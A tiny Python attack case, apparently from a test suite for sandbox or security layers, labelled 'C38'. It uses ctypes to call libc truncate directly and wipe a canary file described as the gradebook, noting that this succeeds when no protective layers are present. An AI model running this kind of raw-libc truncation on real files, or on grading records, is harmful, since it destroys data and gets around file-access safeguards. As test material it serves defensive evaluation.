# C38: empties the gradebook by its path
# Without layers: succeeds
import sys


def attack(facts):
    ctypes = sys.modules["ctypes"]
    ctypes.CDLL(None).truncate(facts["canary"].encode(), ctypes.c_long(0))
